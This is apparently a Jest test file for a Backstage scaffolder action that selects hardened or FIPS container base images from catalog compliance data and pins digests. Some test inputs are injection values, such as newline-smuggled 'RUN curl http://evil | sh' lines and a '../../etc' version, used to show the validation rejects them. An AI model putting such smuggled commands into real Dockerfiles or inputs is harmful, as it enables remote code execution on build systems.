import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import { mockCredentials } from '@backstage/backend-test-utils';
import { Entity } from '@backstage/catalog-model';
import { baseImagesConfig, catalogEntities } from '../__testUtils__/fixtures';
import {
  answerDigests,
  DigestBackend,
  offlineDigests,
  startDigestBackend,
} from '../__testUtils__/digestBackend';
import { DigestLookup } from '../digests/digestLookup';
import { createResolveBaseImagesAction } from './resolve';

const publish = { target: 'local' as const, localDirectory: '/tmp/repos' };

interface Options {
  mirror?: boolean;
  isDryRun?: boolean;
  entities?: Entity[];
  digests?: DigestLookup;
}

function setup(options: Options = {}) {
  const catalog = catalogServiceMock({
    entities: options.entities ?? catalogEntities,
  });
  const getEntityByRef = jest.spyOn(catalog, 'getEntityByRef');
  const action = createResolveBaseImagesAction({
    catalog,
    config: baseImagesConfig(options.mirror ?? true),
    publish,
    digests: options.digests ?? offlineDigests,
  });
  return { action, getEntityByRef };
}

async function resolve(input: Record<string, unknown>, options: Options = {}) {
  const { action, getEntityByRef } = setup(options);
  const ctx = createMockActionContext({
    input: input as any,
    isDryRun: options.isDryRun,
  });
  await action.handler(ctx as any);
  const outputs = Object.fromEntries((ctx.output as jest.Mock).mock.calls);
  return { outputs, getEntityByRef };
}

describe('base-images:resolve', () => {
  it.each([
    // runtime, system, owner, runtimeImage, builderImage, variant
    [
      'python',
      'marketing-site',
      'web-team',
      'python:3.13-slim',
      'python:3.13-slim',
      'slim',
    ],
    [
      'node',
      'marketing-site',
      'web-team',
      'node:22-slim',
      'node:22-slim',
      'slim',
    ],
    [
      'python',
      'internal-tools',
      'web-team',
      'dhi.io/python:3.13',
      'dhi.io/python:3.13-dev',
      'dhi',
    ],
    [
      'node',
      'internal-tools',
      'web-team',
      'dhi.io/node:22',
      'node:22-slim',
      'dhi',
    ],
    [
      'python',
      'patient-records',
      'web-team',
      'dhi.io/python:3.13-fips',
      'dhi.io/python:3.13-dev',
      'dhi-fips',
    ],
    [
      'node',
      'payments',
      'web-team',
      'dhi.io/node:22-fips',
      'node:22-slim',
      'dhi-fips',
    ],
    [
      'python',
      'hardened-platform',
      'web-team',
      'acme/dhi-python:3.13',
      'acme/dhi-python:3.13-dev',
      'dhi',
    ],
    [
      'node',
      'hardened-platform',
      'web-team',
      'acme/dhi-node:22',
      'node:22-slim',
      'dhi',
    ],
  ])(
    '%s in %s -> %s',
    async (runtime, system, owner, runtimeImage, builderImage, variant) => {
      const { outputs } = await resolve({
        runtime,
        system: `system:default/${system}`,
        owner: `group:default/${owner}`,
      });
      expect(outputs).toMatchObject({
        runtimeImage,
        builderImage,
        debugImage: builderImage,
        variant,
      });
      expect(outputs.authRequired).toBe(variant !== 'slim');
      expect(outputs.shellless).toBe(variant !== 'slim');
      expect(outputs.publishTarget).toBe('local');
      expect(outputs.reasons.length).toBeGreaterThan(0);
    },
  );

  it('reads the catalog with the initiator credentials', async () => {
    const { getEntityByRef } = await resolve({
      runtime: 'python',
      system: 'patient-records',
      owner: 'web-team',
    });
    expect(getEntityByRef).toHaveBeenCalledWith(
      'system:default/patient-records',
      { credentials: mockCredentials.user() },
    );
    expect(getEntityByRef).toHaveBeenCalledWith('domain:default/healthcare', {
      credentials: mockCredentials.user(),
    });
    expect(getEntityByRef).toHaveBeenCalledWith('group:default/web-team', {
      credentials: mockCredentials.user(),
    });
  });

  it('reports inherited frameworks with their sources', async () => {
    const { outputs } = await resolve({
      runtime: 'node',
      system: 'internal-tools',
      owner: 'security-team',
    });
    expect(outputs.frameworks).toEqual([
      { id: 'soc2', source: 'domain:default/finance' },
    ]);
    const hipaa = await resolve({
      runtime: 'node',
      system: 'marketing-site',
      owner: 'security-team',
      frameworks: ['HIPAA'],
    });
    expect(hipaa.outputs.frameworks).toEqual([
      { id: 'hipaa', source: 'template input' },
      { id: 'soc2', source: 'group:default/security-team' },
    ]);
    expect(hipaa.outputs.runtimeImage).toBe('dhi.io/node:22-fips');
  });

  it('works the same in dry-run', async () => {
    const { outputs } = await resolve(
      { runtime: 'python', system: 'patient-records' },
      { isDryRun: true },
    );
    expect(outputs.runtimeImage).toBe('dhi.io/python:3.13-fips');
  });

  it.each([
    [{ runtime: 'ruby' }, /Runtime "ruby" is not supported/],
    [
      { runtime: 'python', system: 'system:default/nope' },
      /system:default\/nope is not in the catalog, or you may not read it/,
    ],
    [
      { runtime: 'python', owner: 'group:default/ghosts' },
      /group:default\/ghosts is not in the catalog/,
    ],
    [
      { runtime: 'python', system: 'gov' },
      /Compliance framework 'fedramp' \(from system:default\/gov\) has no policy/,
    ],
    [
      { runtime: 'python', system: 'patient-records', version: '3.12' },
      /Cannot meet framework hipaa \(from system:default\/patient-records\).*baseImages\.runtimes\.python\.dhiTags/,
    ],
    [{ runtime: 'python', version: '../../etc' }, /Invalid version/],
    [
      { runtime: 'python', owner: 'group:default/' },
      /owner "group:default\/" is not an entity ref \(.*\); use \[group:\]\[namespace\/\]name/,
    ],
  ])('%j fails clearly', async (input, message) => {
    await expect(resolve(input)).rejects.toThrow(message);
  });

  it.each([
    [
      { owner: 'user:default/a\nFROM x AS y\nRUN curl http://evil | sh' },
      /owner "user:default\/a\\nFROM x AS y\\nRUN curl http:\/\/evil \| sh" contains the control character U\+000A at position 14/,
    ],
    [
      { owner: 'group:default/web-team\u2029' },
      /owner "group:default\/web-team\\u2029" contains the control character U\+2029/,
    ],
    [
      { owner: 'component:default/web-team' },
      /owner "component:default\/web-team" is a component; it must be a group or user/,
    ],
    [
      { system: 'system:default/a/b' },
      /system "system:default\/a\/b" breaks the catalog's naming rules: name "a\/b"/,
    ],
    [
      { system: 'system:default/x:y' },
      /system "system:default\/x:y" breaks the catalog's naming rules/,
    ],
    [
      { system: 'domain:default/finance' },
      /system "domain:default\/finance" is a domain; it must be a system/,
    ],
    [{ system: `${'a'.repeat(64)}` }, /name "a{64}" must be 1-63 letters/],
    [
      { frameworks: ['hipaa\nRUN id'] },
      /frameworks\[0\] "hipaa\\nRUN id" contains the control character U\+000A/,
    ],
    [{ frameworks: 'hipaa' }, /frameworks must be a list of at most 20 ids/],
  ])('refuses %j before reading the catalog', async (input, message) => {
    const { action, getEntityByRef } = setup();
    const ctx = createMockActionContext({
      input: { runtime: 'python', ...input } as any,
    });
    await expect(action.handler(ctx as any)).rejects.toThrow(message);
    expect(getEntityByRef).not.toHaveBeenCalled();
  });

  it('defaults the owner to a group and the system to a system', async () => {
    const { getEntityByRef } = await resolve({
      runtime: 'python',
      owner: 'default/security-team',
      system: 'default/payments',
    });
    expect(getEntityByRef).toHaveBeenCalledWith(
      'group:default/security-team',
      expect.anything(),
    );
    expect(getEntityByRef).toHaveBeenCalledWith(
      'system:default/payments',
      expect.anything(),
    );
  });

  it('keeps reasons and framework sources that quote catalog data on one line', async () => {
    // the catalog refuses such a name; this stands for any catalog text the policy quotes
    const domain = 'fin\nrun curl evil | sh\u2028x';
    const entities: Entity[] = [
      {
        apiVersion: 'backstage.io/v1alpha1',
        kind: 'System',
        metadata: { name: 'odd', namespace: 'default' },
        spec: { domain },
      },
      {
        apiVersion: 'backstage.io/v1alpha1',
        kind: 'Domain',
        metadata: {
          name: domain,
          namespace: 'default',
          annotations: { 'compliance/frameworks': 'soc2' },
        },
        spec: {},
      },
    ];
    const { outputs } = await resolve(
      { runtime: 'python', system: 'odd' },
      { entities },
    );
    expect(outputs.frameworks).toEqual([
      {
        id: 'soc2',
        source: 'domain:default/fin run curl evil | sh x',
      },
    ]);
    expect(outputs.reasons).toContain(
      'soc2 (from domain:default/fin run curl evil | sh x) requires a Docker Hardened Image',
    );
    for (const reason of outputs.reasons)
      expect(reason).not.toMatch(/[\n\r\u2028\u2029]/);
  });

  it('CIS without a configured mirror names the config key', async () => {
    await expect(
      resolve(
        { runtime: 'node', system: 'hardened-platform' },
        { mirror: false },
      ),
    ).rejects.toThrow(/'baseImages\.dhi\.mirror\.namespace'/);
  });

  describe('digest pinning', () => {
    const DIGEST_RUNTIME = `sha256:${'1'.repeat(64)}`;
    const DIGEST_DEV = `sha256:${'2'.repeat(64)}`;
    let backend: DigestBackend | undefined;
    afterEach(async () => {
      await backend?.close();
      backend = undefined;
    });
    const patientRecords = {
      runtime: 'python',
      system: 'system:default/patient-records',
    };

    it('pins every image to the digest the backend gives, keeping the tag images', async () => {
      backend = await startDigestBackend(
        answerDigests({
          'dhi.io/python:3.13-fips': DIGEST_RUNTIME,
          'dhi.io/python:3.13-dev': DIGEST_DEV,
        }),
      );
      const { outputs } = await resolve(patientRecords, {
        digests: backend.lookup(),
      });
      expect(JSON.parse(backend.requests[0].body)).toEqual({
        images: ['dhi.io/python:3.13-fips', 'dhi.io/python:3.13-dev'],
      });
      expect(outputs.runtimeImage).toBe('dhi.io/python:3.13-fips');
      expect(outputs.pinnedImages).toEqual({
        runtimeImage: `dhi.io/python:3.13-fips@${DIGEST_RUNTIME}`,
        builderImage: `dhi.io/python:3.13-dev@${DIGEST_DEV}`,
        debugImage: `dhi.io/python:3.13-dev@${DIGEST_DEV}`,
      });
      expect(outputs.pinned).toBe(true);
    });

    it('keeps the tag of an image the registry gave no digest for', async () => {
      backend = await startDigestBackend(
        answerDigests({ 'dhi.io/python:3.13-fips': DIGEST_RUNTIME }),
      );
      const { outputs } = await resolve(patientRecords, {
        digests: backend.lookup(),
      });
      expect(outputs.pinnedImages).toEqual({
        runtimeImage: `dhi.io/python:3.13-fips@${DIGEST_RUNTIME}`,
        builderImage: 'dhi.io/python:3.13-dev',
        debugImage: 'dhi.io/python:3.13-dev',
      });
      expect(outputs.pinned).toBe(false);
    });

    it.each([
      [
        'fails',
        (_request: unknown, response: any) => {
          response.writeHead(500);
          response.end();
        },
      ],
      ['hangs', () => {}],
    ])(
      'keeps the tags and succeeds when the backend %s',
      async (_name, handler) => {
        backend = await startDigestBackend(handler);
        const { outputs } = await resolve(patientRecords, {
          digests: backend.lookup(500),
        });
        expect(backend.requests).toHaveLength(1);
        expect(outputs.pinnedImages).toEqual({
          runtimeImage: 'dhi.io/python:3.13-fips',
          builderImage: 'dhi.io/python:3.13-dev',
          debugImage: 'dhi.io/python:3.13-dev',
        });
        expect(outputs.pinned).toBe(false);
        expect(outputs.runtimeImage).toBe('dhi.io/python:3.13-fips');
      },
    );
  });
});
